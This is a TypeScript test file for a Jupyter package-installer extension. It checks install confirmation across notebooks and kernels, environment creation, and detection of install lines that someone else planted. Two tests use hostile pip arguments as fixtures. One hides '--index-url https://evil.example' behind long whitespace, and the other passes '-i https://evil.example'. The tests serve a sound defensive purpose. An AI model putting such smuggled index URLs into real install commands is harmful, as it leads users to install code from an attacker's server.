import { opened, subjectOn } from './documents';
import { FakeConnection, FakeKernel, job, settled } from './fakes';

const PLANNED: any = { status: 'planned', plan: { changes: [] }, findings: [] };

describe('the model', () => {
  it('confirms what is shown, whatever was asked for elsewhere in between', async () => {
    const one = subjectOn(new FakeKernel('1'));
    const two = subjectOn(new FakeKernel('2'));
    const { model, see } = opened(one);
    const first = await see(one);
    void model.install('numpy');
    await first.last.answer(job({ id: 'plan' }));
    first.jobChanged.emit(job({ id: 'plan', state: 'ended', result: { outcome: PLANNED } }));
    const second = await see(two);
    void model.uninstall('pandas');
    await second.last.answer(job({ kind: 'uninstall' }));
    await see(one);
    void model.confirm();
    expect(first.last).toMatchObject({
      method: 'install',
      params: { line: 'numpy', confirmed: true }
    });
  });

  it('confirms what is shown, although another thing was refused since', async () => {
    const one = subjectOn(new FakeKernel('1'));
    const { model, see } = opened(one);
    const connection = await see(one);
    void model.install('numpy');
    await connection.last.answer(job({ id: 'plan' }));
    connection.jobChanged.emit(job({ id: 'plan', state: 'ended', result: { outcome: PLANNED } }));
    void model.uninstall('pandas');
    await connection.last.refuse('busy');
    void model.confirm();
    expect(connection.last).toMatchObject({ method: 'install', params: { line: 'numpy' } });
  });

  it('tells the kernel which lines were typed: those that nobody else put into the box', async () => {
    const one = subjectOn(new FakeKernel('1'));
    const { model, see } = opened(one);
    const connection = await see(one);
    const hidden = `pandas${' '.repeat(200)}--index-url https://evil.example`;
    model.offerLine(hidden);
    void model.submit();
    expect(connection.last.params).toMatchObject({ line: hidden, taken_over: true });
    void model.newEnvironment('.venv', false);
    expect(connection.last.params).toMatchObject({ line: hidden, taken_over: true });
    model.setLine(`${hidden} six`); // what somebody adds to it makes the rest no better
    void model.submit();
    expect(connection.last.params).toMatchObject({ taken_over: true });
    model.setLine('');
    model.setLine('pandas');
    void model.submit();
    expect(connection.last.params).toMatchObject({ line: 'pandas', taken_over: false });
    void model.install('numpy');
    expect(connection.last.params).toMatchObject({ line: 'numpy', taken_over: true });
  });

  it('answers the question that was asked, and no other', async () => {
    const one = subjectOn(new FakeKernel('1'));
    const { model, see } = opened(one);
    const connection = await see(one);
    void model.install('-i https://evil.example pandas');
    await connection.last.answer(job({ id: 'asked' }));
    const asked = { ...PLANNED, status: 'needs-confirmation' };
    const result = { outcome: asked, confirm: { taken_over: false } };
    connection.jobChanged.emit(job({ id: 'asked', state: 'ended', result }));
    void model.confirm();
    expect(connection.last.params).toMatchObject({ taken_over: false });
    expect(connection.last.params.confirmed).toBeUndefined();
  });

  it('goes on when the other notebook on the same kernel is closed', async () => {
    const [mine, other] = [new FakeKernel('k'), new FakeKernel('k')];
    const one = subjectOn(mine);
    const two = subjectOn(other);
    const { model, see } = opened(one);
    await see(one);
    await see(two);
    mine.isDisposed = true;
    mine.disposed.emit();
    const connection = await see(two, { jobs: [job({ words: 'unpacking 4' })] });
    expect(model.session?.isDisposed).toBe(false);
    expect(model.session?.job?.words).toBe('unpacking 4');
    void model.install('numpy');
    expect(connection.last.method).toBe('install');
  });

  it('shows nothing of a kernel whose only notebook is being closed', async () => {
    const kernel = new FakeKernel('k');
    const one = subjectOn(kernel);
    const { model, see } = opened(one);
    await see(one);
    kernel.isDisposed = true;
    kernel.disposed.emit();
    expect(model.state.kind).toBe('none');
  });

  it('switches the notebook for which the environment was made, wherever the user is now', async () => {
    const [kernel, elsewhere] = [new FakeKernel('1'), new FakeKernel('2')];
    const one = subjectOn(kernel);
    const same = subjectOn(kernel);
    const other = subjectOn(elsewhere);
    const { model, see } = opened(one);
    const connection = await see(one);
    void model.newEnvironment('.venv', false);
    const made = job({ id: 'new', kind: 'new-environment' });
    await connection.last.answer(made);
    await see(same);
    await see(other);
    connection.jobChanged.emit({ ...made, state: 'ended', result: { kernel: { name: 'made' } } });
    await settled();
    expect(one.sessionContext.changeKernel).toHaveBeenCalledWith({ name: 'made' });
    expect(same.sessionContext.changeKernel).not.toHaveBeenCalled();
    expect(other.sessionContext.changeKernel).not.toHaveBeenCalled();
    await see(one);
    expect(model.session?.job?.id).toBe('new');
  });

  it('switches no notebook to an environment that was made from another page', async () => {
    const one = subjectOn(new FakeKernel('1'));
    const { model, see } = opened(one);
    const connection = await see(one);
    void model.newEnvironment('.venv', false);
    await connection.last.refuse('busy');
    const made = job({ id: 'theirs', kind: 'new-environment', state: 'ended' });
    connection.jobChanged.emit({ ...made, result: { kernel: { name: 'made' } } });
    await settled();
    expect(one.sessionContext.changeKernel).not.toHaveBeenCalled();
  });

  it('puts into a new environment what was refused here, or else what is typed', async () => {
    const one = subjectOn(new FakeKernel('1'));
    const two = subjectOn(new FakeKernel('2'));
    const { model, see } = opened(one);
    const first = await see(one);
    void model.install('numpy');
    await first.last.answer(job({ id: 'a' }));
    first.jobChanged.emit(job({ id: 'a', state: 'ended', result: { new_environment: true } }));
    model.setLine('nu');
    void model.newEnvironment('.venv', false);
    expect(first.last.params.line).toBe('numpy');
    const second = await see(two);
    model.setLine('pandas');
    void model.newEnvironment('.venv', false);
    expect(second.last.params.line).toBe('pandas');
  });

  it('tells a kernel of the cells of its own notebook only', async () => {
    const [early, late] = [new FakeKernel('1'), new FakeKernel('2')];
    const one = subjectOn(early, ['a', '!pip install one']);
    const two = subjectOn(late, ['b', '!pip install two']);
    const { see, connections } = opened(one);
    await settled();
    await see(two);
    early.is('idle'); // its notebook is no longer in front
    const sent = (connections.get(early) as FakeConnection).last.params.cells;
    expect(sent).toEqual([{ id: 'a', source: '!pip install one' }]);
  });

  it('shows what one notebook imports in that notebook only', async () => {
    const kernel = new FakeKernel('k');
    const one = subjectOn(kernel, ['a', 'import one']);
    const two = subjectOn(kernel, ['b', 'import two']);
    const { model, see } = opened(one);
    const connection = await see(one);
    void model.loadCells();
    await connection.last.answer({ present: ['one'], missing: [], wrong: [] });
    expect(model.session?.cells?.present).toEqual(['one']);
    expect(model.holds('a')).toBe(true);
    void model.loadCells();
    const late = connection.last;
    await see(two);
    expect(model.session?.cells).toBeNull();
    await late.answer({ present: ['one'], missing: [], wrong: [] });
    expect(model.session?.cells).toBeNull();
    expect(model.holds('a')).toBe(false);
  });

  it('writes nothing down over what was typed meanwhile', async () => {
    const one = subjectOn(new FakeKernel('1'), ['a', '%safeinstall numpy']);
    const { model, see } = opened(one);
    const connection = await see(one);
    void model.record(['pandas']);
    const { sharedModel } = one.notebook.content.widgets[0].model;
    sharedModel.setSource('%safeinstall numpy\nimport numpy');
    await connection.last.answer({ source: '%safeinstall numpy pandas', new: false });
    expect(sharedModel.getSource()).toBe('%safeinstall numpy\nimport numpy');
  });
});
